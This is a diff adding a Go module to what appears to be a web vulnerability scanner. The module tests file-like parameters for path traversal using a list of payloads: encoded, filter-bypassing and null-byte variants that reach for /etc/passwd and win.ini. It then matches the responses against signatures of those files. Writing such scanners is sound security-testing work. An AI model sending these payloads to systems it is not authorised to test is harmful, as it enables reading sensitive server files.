@@ -0,0 +1,87 @@
+package main
+
+import (
+	"regexp"
+	"strings"
+)
+
+// fileParamName matches parameter names that usually hold a file or page
+// to load.
+var fileParamName = regexp.MustCompile(`(?i)(file|path|page|template|tpl|include|inc|doc|dir|folder|load|read|download|view|layout|lang|style|img|image)`)
+
+// fileValue matches values that look like a file name or path.
+var fileValue = regexp.MustCompile(`(?i)([/\\]|\.[a-z0-9]{1,5}$)`)
+
+// traversalPayloads replace the tested value. Each climbs out of the
+// directory the application reads from towards a file every system has,
+// plainly, with the "../" stripping filters leave behind, encoded once
+// more for applications that decode again, with a null byte cutting off
+// an appended extension, and as an absolute path.
+var traversalPayloads = []string{
+	"../../../../../../../../etc/passwd",
+	"....//....//....//....//....//....//....//....//etc/passwd",
+	"..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
+	"%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
+	"../../../../../../../../etc/passwd\x00.png",
+	"/etc/passwd",
+	`..\..\..\..\..\..\..\..\windows\win.ini`,
+	"../../../../../../../../windows/win.ini",
+	`C:\Windows\win.ini`,
+}
+
+// traversalSignatures are only found in the files traversalPayloads ask
+// for: the root entry of /etc/passwd and sections of win.ini.
+var traversalSignatures = []*regexp.Regexp{
+	regexp.MustCompile(`root:[^:\n]*:0:0:`),
+	regexp.MustCompile(`\[(fonts|extensions|mci extensions)\]`),
+}
+
+var traversalCheck = injectionCheck{
+	label: "Path Traversal",
+	found: func(r Result) bool { return r.PathTraversal },
+	test:  testTraversal,
+}
+
+func init() {
+	knownInjectionChecks = append(knownInjectionChecks, traversalCheck)
+}
+
+// takesFile reports whether c looks like it names a file, by its name or
+// its value.
+func takesFile(c paramCheck) bool {
+	if c.loc == locHeader {
+		return false
+	}
+	return fileParamName.MatchString(c.param) || fileValue.MatchString(c.value())
+}
+
+// testTraversal sets c's parameter, when it takes a file, to each of
+// traversalPayloads and reports the first whose response has a signature
+// of the file it asks for that the unmodified response does not.
+func testTraversal(c paramCheck, r *Result) error {
+	if !takesFile(c) {
+		return nil
+	}
+	base, err := sendInjected(c, "")
+	if err != nil {
+		return err
+	}
+	for _, p := range traversalPayloads {
+		resp, err := sendReplaced(c, p)
+		if err != nil {
+			return err
+		}
+		for _, sig := range traversalSignatures {
+			m := sig.FindString(resp.body)
+			if m == "" || strings.Contains(base.body, m) {
+				continue
+			}
+			r.PathTraversal = true
+			r.Payload = p
+			r.Curl = resp.curl
+			r.Evidence = snippetAround(resp.body, m, evidenceContext)
+			return nil
+		}
+	}
+	return nil
+}